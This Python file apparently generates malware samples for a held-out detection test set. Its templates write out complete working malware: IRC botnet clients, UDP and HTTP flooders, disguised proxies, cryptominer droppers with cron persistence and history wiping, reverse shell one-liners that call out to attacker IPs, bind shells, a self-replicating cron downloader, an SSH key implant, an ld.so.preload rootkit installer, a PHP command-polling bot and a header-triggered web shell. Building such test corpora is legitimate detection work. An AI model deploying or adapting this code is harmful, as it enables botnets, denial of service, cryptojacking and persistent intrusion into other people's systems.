"""Bot and persistence templates of the fourth held-out set (README.md). Each
takes (r, S) and returns a list of (rel, text, lang). Written blind."""

import base64

from common4 import dom, hexname, host, ip, rword


def _tmp(r):
    return r.choice(("/tmp/", "/var/tmp/", "/dev/shm/", "/tmp/.X11-unix/", "/tmp/.ICE-unix/"))


def _kname(r):
    return r.choice(("[kworker/0:1H]", "[kswapd0]", "[ksoftirqd/1]", "[migration/0]", "[jbd2/sda1-8]", "-bash", "php-fpm: pool www", "sshd: root@pts/0"))


def _port(r):
    return r.choice((443, 6667, 6697, 8080, 1337, 4444, 53, 8443, 31337))


def perl_irc_old(r, S):
    nick = rword(r, 5, "abcdefghijklmnopqrstuvwxyz")
    chan = "#" + rword(r, 4, "abcdefghijklmnopqrstuvwxyz")
    proc = _kname(r)
    body = r'''#!/usr/bin/perl
use IO::Socket;
my $server = "SERVER"; my $port = PORT; my $chan = "CHAN"; my $nick = "NICK" . int(rand(9999));
$0 = "PROC";
$SIG{'INT'} = 'IGNORE'; $SIG{'HUP'} = 'IGNORE'; $SIG{'TERM'} = 'IGNORE'; $SIG{'CHLD'} = 'IGNORE';
my $pid = fork; exit if $pid; die "fork: $!" unless defined($pid);
my $sock = IO::Socket::INET->new(PeerAddr => $server, PeerPort => $port, Proto => 'tcp') or die;
print $sock "NICK $nick\r\nUSER $nick 8 * :$nick\r\n";
while (my $line = <$sock>) {
    $line =~ s/\r\n$//;
    if ($line =~ /^PING \:(.*)/) { print $sock "PONG :$1\r\n"; next; }
    if ($line =~ /^:\S+ 001 /) { print $sock "JOIN $chan\r\n"; }
    if ($line =~ /PRIVMSG \S+ :!sh (.*)/) {
        foreach my $o (`$1 2>&1`) { print $sock "PRIVMSG $chan :$o"; sleep 1; }
    }
    if ($line =~ /PRIVMSG \S+ :!udp (\S+) (\d+) (\d+)/) {
        my ($h, $p, $t) = ($1, $2, $3);
        if (!fork) {
            socket(U, PF_INET, SOCK_DGRAM, 17); my $end = time + $t; my $ia = inet_aton($h);
            while (time < $end) { send(U, pack("a1024", "x"), 0, sockaddr_in($p || int(rand(65500)) + 1, $ia)); }
            exit;
        }
    }
    if ($line =~ /PRIVMSG \S+ :!get (\S+) (\S+)/) { system("wget -q -O $2 $1 || curl -s -o $2 $1"); }
}
'''
    body = body.replace("SERVER", ip(r)).replace("PORT", str(_port(r))).replace("CHAN", chan).replace("NICK", nick).replace("PROC", proc)
    return [(r.choice(("tmp/", ".cache/", "cgi-bin/", "")) + r.choice(("a.pl", ".x", "cron.pl", "%s.pl" % hexname(r, 4))), body, "perl")]


def py_irc_tls(r, S):
    body = '''#!/usr/bin/env python3
import socket, ssl, subprocess, random, time, os
HOST, PORT, CHAN = "%s", %d, "#%s"
NICK = "u" + str(random.randint(10000, 99999))
def run(cmd):
    try:
        return subprocess.check_output(cmd, shell=True, stderr=subprocess.STDOUT, timeout=30).decode(errors="replace")
    except Exception as e:
        return str(e)
while True:
    try:
        s = ssl.create_default_context()
        s.check_hostname = False
        s.verify_mode = ssl.CERT_NONE
        c = s.wrap_socket(socket.create_connection((HOST, PORT), 20))
        c.send(("NICK %%s\\r\\nUSER %%s 0 * :%%s\\r\\n" %% (NICK, NICK, os.uname()[1])).encode())
        buf = b""
        while True:
            buf += c.recv(4096)
            if not buf:
                break
            *lines, buf = buf.split(b"\\r\\n")
            for l in lines:
                t = l.decode(errors="replace")
                if t.startswith("PING"):
                    c.send(("PONG" + t[4:] + "\\r\\n").encode())
                elif " 376 " in t or " 422 " in t:
                    c.send(("JOIN " + CHAN + "\\r\\n").encode())
                elif "PRIVMSG" in t and ":." in t:
                    cmd = t.split(":.", 1)[1]
                    for o in run(cmd).splitlines()[:20]:
                        c.send(("PRIVMSG " + CHAN + " :" + o + "\\r\\n").encode())
                        time.sleep(0.7)
    except Exception:
        time.sleep(60)
''' % (host(r), r.choice((6697, 443, 7000)), rword(r, 5, "abcdefghij"))
    return [(r.choice((".local/", "tmp/", ".config/")) + r.choice(("update.py", "syslogd.py", ".d.py")), body, "python")]


def udp_flood(r, S):
    k = r.choice(("perl", "python", "php"))
    if k == "perl":
        body = r'''#!/usr/bin/perl
use Socket;
my ($ip, $port, $size, $time) = @ARGV;
my $iaddr = inet_aton($ip) or die "no host";
socket(FLOOD, PF_INET, SOCK_DGRAM, 17);
my $endtime = time() + ($time ? $time : 1000000);
for (; time() <= $endtime;) {
    my $psize = $size ? $size : int(rand(1024 - 64) + 64);
    my $pport = $port ? $port : int(rand(65500)) + 1;
    send(FLOOD, pack("a$psize", "flood"), 0, pack_sockaddr_in($pport, $iaddr));
}
'''
        return [(r.choice(("tmp/", "")) + r.choice(("u.pl", "x.pl", "p.pl")), body, "perl")]
    if k == "python":
        body = '''import socket, random, sys, time, threading
target, port, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
payload = random._urandom(1490)
end = time.time() + secs
def blast():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    while time.time() < end:
        s.sendto(payload, (target, port or random.randint(1, 65535)))
for _ in range(%d):
    threading.Thread(target=blast, daemon=True).start()
time.sleep(secs)
''' % r.choice((8, 16, 64))
        return [(r.choice(("tmp/", "")) + r.choice(("u.py", "load.py")), body, "python")]
    body = '''<?php
ignore_user_abort(true); set_time_limit(0);
$host = $_GET['host']; $port = (int) @$_GET['port']; $t = time() + (int) $_GET['time'];
$out = str_repeat('X', (int) (@$_GET['size'] ?: 65000));
$n = 0;
while (time() < $t) {
    $fp = @fsockopen('udp://' . $host, $port ?: mt_rand(1, 65535), $e, $s, 5);
    if ($fp) { @fwrite($fp, $out); @fclose($fp); $n++; }
}
echo "sent $n packets";
'''
    return [(r.choice(("wp-content/uploads/", "tmp/", "")) + r.choice(("udp.php", "u.php", "stress.php")), body, "php")]


def http_flood(r, S):
    body = '''#!/usr/bin/env python3
import threading, random, sys, urllib.request, time
URL = sys.argv[1]
UAS = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "Mozilla/5.0 (X11; Linux x86_64)", "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X)"]
stop = time.time() + int(sys.argv[2]) if len(sys.argv) > 2 else 1e18
def hit():
    while time.time() < stop:
        q = "%%s?%%d=%%d" %% (URL, random.randint(0, 10 ** 6), random.randint(0, 10 ** 6))
        req = urllib.request.Request(q, headers={"User-Agent": random.choice(UAS), "Cache-Control": "no-cache", "Referer": "https://www.%s/"})
        try:
            urllib.request.urlopen(req, timeout=4).read(1)
        except Exception:
            pass
for _ in range(%d):
    threading.Thread(target=hit, daemon=True).start()
while time.time() < stop:
    time.sleep(1)
''' % (dom(r), r.choice((200, 500, 1000)))
    return [(r.choice(("tmp/", ".cache/")) + r.choice(("h.py", "l7.py", "check.py")), body, "python")]


def socks_proxy_tmp(r, S):
    port = r.choice((1080, 8081, 9050, 31280))
    body = '''import socket, select, struct, threading, os
os.chdir("/")
if os.fork():
    os._exit(0)
os.setsid()
def pipe(a, b):
    try:
        while True:
            r, _, _ = select.select([a, b], [], [], 60)
            if not r:
                break
            for s in r:
                d = s.recv(65536)
                if not d:
                    return
                (b if s is a else a).sendall(d)
    finally:
        a.close(); b.close()
def handle(c):
    c.recv(262); c.sendall(b"\\x05\\x00")
    ver, cmd, _, at = c.recv(4)
    if at == 1:
        addr = socket.inet_ntoa(c.recv(4))
    else:
        addr = c.recv(c.recv(1)[0]).decode()
    port = struct.unpack(">H", c.recv(2))[0]
    r = socket.create_connection((addr, port), 15)
    c.sendall(b"\\x05\\x00\\x00\\x01" + socket.inet_aton("0.0.0.0") + struct.pack(">H", 0))
    pipe(c, r)
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", %d)); s.listen(128)
while True:
    c, _ = s.accept()
    threading.Thread(target=handle, args=(c,), daemon=True).start()
''' % port
    return [(_tmp(r).lstrip("/") + "." + hexname(r, 5), body, "python")]


def perl_http_proxy(r, S):
    body = r'''#!/usr/bin/perl
use IO::Socket::INET; use IO::Select;
$0 = "PROC"; exit if fork;
my $l = IO::Socket::INET->new(LocalPort => PORT, Listen => 50, ReuseAddr => 1) or die;
while (my $c = $l->accept) {
    next if fork;
    my $req = <$c>; my ($m, $u) = split / /, $req;
    my ($h, $p) = $m eq 'CONNECT' ? split(/:/, $u) : ($u =~ m{//([^/:]+)(?::(\d+))?}, 80);
    my $r = IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p || 80) or exit;
    if ($m eq 'CONNECT') { while (<$c> ne "\r\n") {} print $c "HTTP/1.0 200 Connection established\r\n\r\n"; } else { print $r $req; }
    my $s = IO::Select->new($c, $r);
    while (my @rd = $s->can_read(60)) { for (@rd) { my $b; sysread($_, $b, 8192) or exit; syswrite($_ == $c ? $r : $c, $b); } }
    exit;
}
'''.replace("PROC", _kname(r)).replace("PORT", str(r.choice((3128, 8888, 8118))))
    return [(_tmp(r).lstrip("/") + r.choice((".p", "httpd", ".cache.pl")), body, "perl")]


def miner_dropper_sh(r, S):
    d = _tmp(r) + "." + hexname(r, 4)
    pool = "%s:%d" % (r.choice(("pool.%s" % dom(r), ip(r))), r.choice((3333, 4444, 14444, 443)))
    wallet = "4" + rword(r, 94, "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz")
    name = r.choice(("kdevtmpfsi", "systemd-journal", "dbused", "kthreaddk", "networkservice"))
    body = '''#!/bin/sh
D=%(d)s
mkdir -p $D && cd $D || cd /tmp
for p in xmrig kinsing kdevtmpfsi ddgs sysupdate; do pkill -9 -f $p 2>/dev/null; done
ARCH=$(uname -m)
if command -v curl >/dev/null 2>&1; then G="curl -fsSL -o"; else G="wget -q -O"; fi
$G %(n)s http://%(h)s/bin/$ARCH || $G %(n)s http://%(h2)s/x/$ARCH
chmod +x %(n)s
cat > config.json <<EOF
{"autosave": true, "cpu": {"max-threads-hint": %(cpu)d}, "pools": [{"url": "%(pool)s", "user": "%(w)s", "pass": "x", "tls": %(tls)s}]}
EOF
nohup ./%(n)s -c config.json >/dev/null 2>&1 &
(crontab -l 2>/dev/null | grep -v %(n)s; echo "*/10 * * * * cd $D && pgrep -x %(n)s >/dev/null || nohup ./%(n)s -c config.json >/dev/null 2>&1 &") | crontab -
history -c 2>/dev/null; rm -f ~/.bash_history
''' % dict(d=d, n=name, h=host(r), h2=ip(r), cpu=r.choice((50, 75, 100)), pool=pool, w=wallet, tls=r.choice(("true", "false")))
    return [(r.choice(("tmp/", "wp-content/uploads/", "")) + r.choice(("i.sh", "init.sh", ".s", "x")), body, "sh")]


def miner_dropper_py(r, S):
    body = '''import os, stat, urllib.request, platform, subprocess
d = os.path.expanduser("~/.%s")
os.makedirs(d, exist_ok=True)
b = os.path.join(d, "%s")
urllib.request.urlretrieve("http://%s/m/" + platform.machine(), b)
os.chmod(b, stat.S_IRWXU)
args = [b, "-o", "%s:%d", "-u", "%s", "-k", "--donate-level=0", "--background"]
subprocess.Popen(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
with open(os.path.expanduser("~/.profile"), "a") as f:
    f.write("\\npgrep -f %%s >/dev/null || %%s >/dev/null 2>&1 &\\n" %% (b, " ".join(args)))
''' % (hexname(r, 5), r.choice(("kthreadd", "cpuhp", "irqbalance")), host(r), ip(r), r.choice((3333, 5555)), "4" + rword(r, 90, "123456789ABCDEFGH"))
    return [(r.choice(("tmp/", ".local/")) + r.choice(("setup.py", "u.py", "s.py")), body, "python")]


def odd_revshell(r, S):
    """Reverse shells in less common one-liner shapes, inside small scripts."""
    h, p = ip(r), _port(r)
    k = r.choice(("socat", "openssl", "awk", "telnet", "mkfifo_sh", "devtcp_exec", "busybox", "php_cli"))
    lines = {
        "socat": "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:%s:%d" % (h, p),
        "openssl": "mkfifo /tmp/.s; /bin/sh -i < /tmp/.s 2>&1 | openssl s_client -quiet -connect %s:%d > /tmp/.s; rm /tmp/.s" % (h, p),
        "awk": "awk 'BEGIN {s = \"/inet/tcp/0/%s/%d\"; while (42) { do { printf \"$ \" |& s; s |& getline c; if (c) { while ((c |& getline) > 0) print $0 |& s; close(c) } } while (c != \"exit\"); close(s) }}' /dev/null" % (h, p),
        "telnet": "telnet %s %d | /bin/sh | telnet %s %d" % (h, p, h, p + 1),
        "mkfifo_sh": "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc %s %d > /tmp/f" % (h, p),
        "devtcp_exec": "exec 5<>/dev/tcp/%s/%d; cat <&5 | while read line; do $line 2>&5 >&5; done" % (h, p),
        "busybox": "busybox nc %s %d -e /bin/sh" % (h, p),
        "php_cli": "php -r '$s=fsockopen(\"%s\",%d);$p=proc_open(\"/bin/sh -i\",[0=>$s,1=>$s,2=>$s],$x);'" % (h, p),
    }
    body = "#!/bin/bash\n# %s\nwhile true; do\n    %s\n    sleep %d\ndone >/dev/null 2>&1 &\n" % (rword(r, 8, "abcdefgh "), lines[k], r.choice((30, 60, 300)))
    return [(r.choice(("tmp/", ".cache/", "")) + r.choice(("r.sh", ".u", "sync.sh", "x")), body, "sh")]


def bind_shell(r, S):
    port = r.choice((31337, 12345, 2222, 8989, 5555))
    k = r.choice(("perl", "python", "php"))
    if k == "perl":
        body = r'''#!/usr/bin/perl
use Socket;
$0 = "PROC";
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1);
bind(S, sockaddr_in(PORT, INADDR_ANY)); listen(S, 3);
while (accept(C, S)) {
    if (!fork) { open(STDIN, ">&C"); open(STDOUT, ">&C"); open(STDERR, ">&C"); exec("/bin/sh -i"); }
    close C;
}
'''.replace("PORT", str(port)).replace("PROC", _kname(r))
        return [(r.choice(("tmp/", "cgi-bin/")) + r.choice(("b.pl", "bind.cgi", ".b")), body, "perl")]
    if k == "python":
        body = '''import socket, subprocess, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", %d))
s.listen(1)
while True:
    c, a = s.accept()
    if os.fork() == 0:
        for fd in (0, 1, 2):
            os.dup2(c.fileno(), fd)
        subprocess.call(["/bin/sh", "-i"])
        os._exit(0)
    c.close()
''' % port
        return [(r.choice(("tmp/", "")) + r.choice(("b.py", ".srv.py")), body, "python")]
    body = '''<?php
set_time_limit(0); ignore_user_abort(1);
$s = socket_create(AF_INET, SOCK_STREAM, SOL_TCP);
socket_set_option($s, SOL_SOCKET, SO_REUSEADDR, 1);
socket_bind($s, '0.0.0.0', (int) (@$_GET['p'] ?: %d)); socket_listen($s);
while ($c = socket_accept($s)) {
    socket_write($c, php_uname() . "\\n$ ");
    while (($cmd = socket_read($c, 2048, PHP_NORMAL_READ)) !== false) {
        $cmd = trim($cmd); if ($cmd === 'exit') { break; }
        socket_write($c, shell_exec($cmd . ' 2>&1') . '$ ');
    }
    socket_close($c);
}
''' % port
    return [(r.choice(("wp-content/uploads/", "tmp/")) + r.choice(("b.php", "bind.php", "sock.php")), body, "php")]


def cron_replicator(r, S):
    """Copies itself to several hidden places and adds a crontab line for each copy."""
    url = "http://%s/%s.sh" % (host(r), hexname(r, 5))
    body = '''#!/bin/bash
SELF=$(readlink -f "$0")
for d in "$HOME/.cache" "$HOME/.local/share" /tmp /var/tmp /dev/shm; do
    [ -w "$d" ] || continue
    c="$d/.$(head -c4 /dev/urandom | od -An -tx1 | tr -d ' \\n')"
    cp "$SELF" "$c" 2>/dev/null && chmod 700 "$c"
    (crontab -l 2>/dev/null | grep -Fv "$c"; echo "@reboot $c >/dev/null 2>&1"; echo "*/%d * * * * $c >/dev/null 2>&1") | crontab -
done
pgrep -f %s >/dev/null || (curl -fsSL %s || wget -qO- %s) | bash
''' % (r.choice((5, 15, 30)), hexname(r, 5), url, url)
    return [(r.choice(("tmp/", ".cache/", "")) + r.choice(("up.sh", ".i", "s")), body, "sh")]


def ssh_key_py(r, S):
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + rword(r, 43, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") + " root@" + rword(r, 6)
    k = r.choice(("php", "python"))
    if k == "php":
        body = ('''<?php
$h = posix_getpwuid(posix_geteuid())['dir'];
@mkdir($h . '/.ssh', 0700);
$f = $h . '/.ssh/authorized_keys';
$k = base64_decode('%s');
if (strpos((string) @file_get_contents($f), $k) === false) { file_put_contents($f, "\\n" . $k . "\\n", FILE_APPEND); }
@chmod($f, 0600); @touch($f, filemtime($h . '/.bashrc'));
echo 'ok ' . get_current_user() . '@' . gethostname();
''' % base64.b64encode(key.encode()).decode())
        return [(r.choice(("wp-content/uploads/", "images/", "")) + r.choice(("k.php", "ssh.php", "%s.php" % hexname(r, 5))), body, "php")]
    body = '''import os, pwd
home = pwd.getpwuid(os.geteuid()).pw_dir
os.makedirs(home + "/.ssh", mode=0o700, exist_ok=True)
p = home + "/.ssh/authorized_keys"
k = "%s"
if not os.path.exists(p) or k not in open(p).read():
    open(p, "a").write("\\n" + k + "\\n")
os.chmod(p, 0o600)
os.utime(p, (0, os.stat(home).st_mtime))
''' % key
    return [(r.choice(("tmp/", "")) + r.choice(("k.py", ".a.py")), body, "python")]


def preload_installer(r, S):
    so = "/usr/lib/x86_64-linux-gnu/lib%s.so.1" % r.choice(("seconf", "xcompat", "pamd", "nssutil"))
    body = '''#!/bin/sh
[ "$(id -u)" = 0 ] || { echo need root; exit 1; }
cd /tmp && (curl -fsSL -o .l.so http://%s/l/$(uname -m).so || wget -q -O .l.so http://%s/l/$(uname -m).so)
install -m 0755 .l.so %s && rm -f .l.so
grep -q %s /etc/ld.so.preload 2>/dev/null || echo %s >> /etc/ld.so.preload
touch -r /usr/lib/x86_64-linux-gnu/libc.so.6 %s /etc/ld.so.preload
export HIDE_PREFIX=%s
''' % (host(r), ip(r), so, so, so, so, rword(r, 5))
    return [(r.choice(("tmp/", "")) + r.choice(("inst.sh", "p.sh", ".pl")), body, "sh")]


def kthread_watchdog(r, S):
    name = _kname(r)
    b = "/tmp/.%s" % hexname(r, 6)
    body = '''#!/bin/bash
B=%s
URL=http://%s/a
while :; do
    if ! pgrep -f "%s" >/dev/null 2>&1; then
        [ -x "$B" ] || { curl -fsSL -o "$B" "$URL" || wget -q -O "$B" "$URL"; chmod +x "$B"; }
        (exec -a "%s" "$B" >/dev/null 2>&1 &)
    fi
    sleep %d
done
''' % (b, host(r), name, name, r.choice((30, 60, 120)))
    return [(r.choice(("tmp/", ".cache/", "")) + r.choice(("w.sh", ".watch", "k")), body, "sh")]


def php_poll_bot(r, S):
    """A PHP bot started from a web request that stays alive and polls a panel for
    tasks (shell, fetch, mail), reporting output; unlike the CLI daemons of set 3
    it lives in the web server process."""
    panel = "https://%s/%s/" % (host(r), rword(r, 5))
    body = '''<?php
ignore_user_abort(true); set_time_limit(0); @ini_set('max_execution_time', 0);
if (function_exists('fastcgi_finish_request')) { echo 'OK'; fastcgi_finish_request(); }
$id = md5(php_uname() . __FILE__); $panel = %s;
$lock = sys_get_temp_dir() . '/.' . substr($id, 0, 8);
if (file_exists($lock) && time() - filemtime($lock) < 120) { exit; }
while (true) {
    touch($lock);
    $t = @json_decode(@file_get_contents($panel . 'task?id=' . $id), true);
    if ($t && isset($t['type'])) {
        switch ($t['type']) {
            case 'sh': $o = shell_exec($t['arg'] . ' 2>&1'); break;
            case 'get': $o = (string) @file_put_contents($t['path'], file_get_contents($t['arg'])); break;
            case 'php': $o = (string) @include $t['arg']; break;
            case 'stop': @unlink($lock); exit;
            default: $o = '';
        }
        @file_get_contents($panel . 'out?id=' . $id, false, stream_context_create(['http' => ['method' => 'POST', 'content' => (string) $o]]));
    }
    sleep(%d);
}
''' % (repr(panel).replace('"', "'"), r.choice((20, 45, 90)))
    return [(r.choice(("wp-content/uploads/", "wp-includes/", "")) + r.choice(("wp-sess.php", "cron2.php", "%s.php" % hexname(r, 6))), body, "php")]


def htaccess_drop(r, S):
    """A .htaccess that makes an innocent-looking extension run as PHP, with the
    file it enables (.user.ini variants are in other sets)."""
    ext = r.choice((".jpg", ".txt", ".ico", ".css"))
    name = r.choice(("logo", "style", "favicon", "readme")) + ext
    ht = ("<FilesMatch \"^%s$\">\n    SetHandler application/x-httpd-php\n</FilesMatch>\n" % name.replace(".", "\\.")
          if r.random() < 0.5 else "AddType application/x-httpd-php %s\n" % ext)
    ht += "Options -Indexes\n"
    hdr = rword(r, 4, "ABCDEFGHIJ")
    payload = ("<?php\n@ini_set('display_errors', 0);\nif (isset($_SERVER['HTTP_X_%s'])) { echo '<pre>' . shell_exec(base64_decode($_SERVER['HTTP_X_%s'])) . '</pre>'; }\n"
               % (hdr, hdr))
    d = r.choice(("wp-content/uploads/%d/" % r.randint(2018, 2025), "images/", "media/"))
    return [(d + ".htaccess", ht, "htaccess"), (d + name, payload, "php")]


TEMPLATES = [
    ("perl_irc_old", perl_irc_old, 4), ("py_irc_tls", py_irc_tls, 3), ("udp_flood", udp_flood, 4), ("http_flood", http_flood, 2),
    ("socks_proxy_tmp", socks_proxy_tmp, 2), ("perl_http_proxy", perl_http_proxy, 2), ("miner_dropper_sh", miner_dropper_sh, 3),
    ("miner_dropper_py", miner_dropper_py, 2), ("odd_revshell", odd_revshell, 6), ("bind_shell", bind_shell, 3),
    ("cron_replicator", cron_replicator, 2), ("ssh_key_drop", ssh_key_py, 2), ("preload_installer", preload_installer, 2),
    ("kthread_watchdog", kthread_watchdog, 2), ("php_poll_bot", php_poll_bot, 2), ("htaccess_handler_drop", htaccess_drop, 2),
]
